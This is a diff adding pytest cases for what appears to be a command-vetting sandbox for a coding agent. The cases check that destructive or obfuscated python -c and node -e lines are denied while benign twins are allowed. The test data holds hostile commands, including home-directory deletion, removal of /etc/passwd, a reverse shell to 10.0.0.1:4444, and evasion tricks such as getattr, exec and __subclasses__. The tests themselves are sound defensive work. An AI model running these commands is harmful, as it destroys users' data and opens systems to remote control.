@@ -55,3 +55,104 @@ def test_a_function_running_its_arguments_is_judged_at_each_call(semantics: str,
 def test_a_function_called_where_its_arguments_are_unseen_stays_opaque(semantics: str, line: str) -> None:
     decision = judged(line, semantics)
     assert decision.decision in STOPPED, (line, decision)
+
+
+# -- 3. python -c read with `ast`: judged by its calls, as the equivalent commands ----------------------------
+
+PYTHON = [
+    ("""python3 -c "import json,sys; print(json.load(sys.stdin)['version'])" < package.json""",
+     """python3 -c "import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"""", "delete-home"),
+    ("""python3 -c "import subprocess; subprocess.run(['git', 'status'], check=True)\"""",
+     """python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/etc'])\"""", "delete-outside-workspace"),
+    ("""python -c "from pathlib import Path; print(Path('setup.py').read_text())\"""",
+     """python -c "from pathlib import Path; (Path.home() / '.bashrc').write_text('x')\"""",
+     "write-outside-workspace"),
+    ("""python3 -c "open('out.txt', 'w').write('x')\"""",
+     """python3 -c "open('/etc/cron.d/job', 'w').write('x')\"""", "write-outside-workspace"),
+    ("""python3 -c "import os; os.makedirs('build/x', exist_ok=True); print(os.getcwd())\"""",
+     """python3 -c "import os; os.remove('/etc/passwd')\"""", "delete-outside-workspace"),
+    ("""python3 -c "import os; os.system('ls -la')\"""", """python3 -c "import os; os.system('rm -rf ~')\"""",
+     "delete-home"),
+    ("""python3 -Ic "import sys; print(sys.version)\"""", """python3 -Ic "import os; os.system('rm -rf ~')\"""",
+     "delete-home"),  # short options bundle: -Ic was not read as code at all before
+]
+
+
+@both
+@pytest.mark.parametrize("benign, destructive, rule", PYTHON, ids=[b for b, _, _ in PYTHON])
+def test_python_c_is_judged_by_its_calls(semantics: str, benign: str, destructive: str, rule: str) -> None:
+    assert judged(benign, semantics).decision == "allow", benign
+    decision = judged(destructive, semantics)
+    assert (decision.decision, decision.rule) == ("deny", rule), (destructive, decision)
+
+
+@both
+@pytest.mark.parametrize("line", [
+    """python3 -c "exec('import os; os.system(\\"rm -rf ~\\")')\"""",
+    """python3 -c "getattr(__import__('os'), 'system')('id')\"""",
+    """python3 -c "import os; f = os.remove; f('/etc/passwd')\"""",
+    """python3 -c "().__class__.__base__.__subclasses__()\"""",
+    """python3 -c "import importlib; importlib.import_module('os').system('id')\"""",
+    """python3 -c "import shutil, sys; shutil.rmtree(sys.argv[1])" ~""",
+    """python3 -c "import sys,socket,pty; s=socket.socket(); s.connect(('10.0.0.1', 4444)); pty.spawn('sh')\"""",
+    """python3 -c "import subprocess, sys; subprocess.run(sys.argv[1:])" rm -rf ~""",
+    """python3 -c "$CODE\"""",
+])
+def test_python_c_built_at_run_time_or_escaping_is_asked(semantics: str, line: str) -> None:
+    decision = judged(line, semantics)
+    assert decision.decision in STOPPED and decision.opaque, (line, decision)
+
+
+def test_the_reading_is_bounded() -> None:
+    from interposer import pycode
+
+    assert pycode.read("x = 1\n" * (pycode.MAX_SOURCE // 6 + 1), "/home/user").unread is not None
+    assert "syntax nodes" in (pycode.read("x = [" + "1, " * pycode.MAX_NODES + "]", "/home/user").unread or "")
+    assert pycode.read("(" * 500 + ")" * 500, "/home/user").unread is not None  # too deep for the parser
+    assert pycode.read("print(1)", "/home/user") == pycode.Reading(())
+
+
+# -- 4. confined by the jail anyway: no question in a jail, asked by the hook ---------------------------------
+
+CONFINED = [
+    """python3 -c "import torch; print(torch.__version__)\"""",
+    """python3 -c "import numpy as np; print(np.zeros(3))\"""",
+    """node -e "console.log(process.version)\"""",
+    """node -pe "JSON.parse(require('fs').readFileSync('package.json')).version\"""",
+    "PYTHONPATH=src python -m pytest -q",
+    'pkill -f "next dev"',
+    "kill $(pgrep -f vite)",
+]
+NOT_CONFINED = [  # their twins: a program started, the network, a deletion, another variable: asked everywhere
+    """python3 -c "import torch, subprocess; subprocess.run(sys.argv)\"""",
+    """node -e "require('child_process').execSync('rm -rf ~')\"""",
+    """node -e "require('fs').rmSync(require('os').homedir(), {recursive: true})\"""",
+    """node -e "require('child_' + 'process').execSync('id')\"""",
+    """node -e "require('http').get('http://10.0.0.1/x')\"""",
+    "PYTHONPATH=src LD_PRELOAD=/tmp/x.so python -m pytest -q",
+    "killall5 -9",
+]
+
+
+@pytest.mark.parametrize("line", CONFINED)
+def test_what_the_jail_confines_runs_in_the_jail_and_is_asked_by_the_hook(line: str) -> None:
+    assert judged(line, "jail").decision == "allow", (line, judged(line, "jail"))
+    assert judged(line, "hook").decision == "ask", line
+
+
+@both
+@pytest.mark.parametrize("line", NOT_CONFINED)
+def test_what_the_jail_does_not_confine_is_asked_everywhere(semantics: str, line: str) -> None:
+    assert judged(line, semantics).decision in STOPPED, line
+
+
+def test_a_rule_where_is_checked(tmp_path) -> None:  # noqa: ANN001 - pytest's tmp_path
+    from jail.errors import ProfileError
+    from jail.policy import profile
+
+    path = tmp_path / "mine.toml"
+    path.write_text('extends = "coding-agent"\n[[interposer.rules]]\nid = "x"\ncommand = ["x"]\n'
+                    'where = ["outside"]\ndecision = "ask"\nreason = "r"\n')
+    with pytest.raises(ProfileError) as raised:
+        profile.load(str(path))
+    assert "jail or host" in str(raised.value)
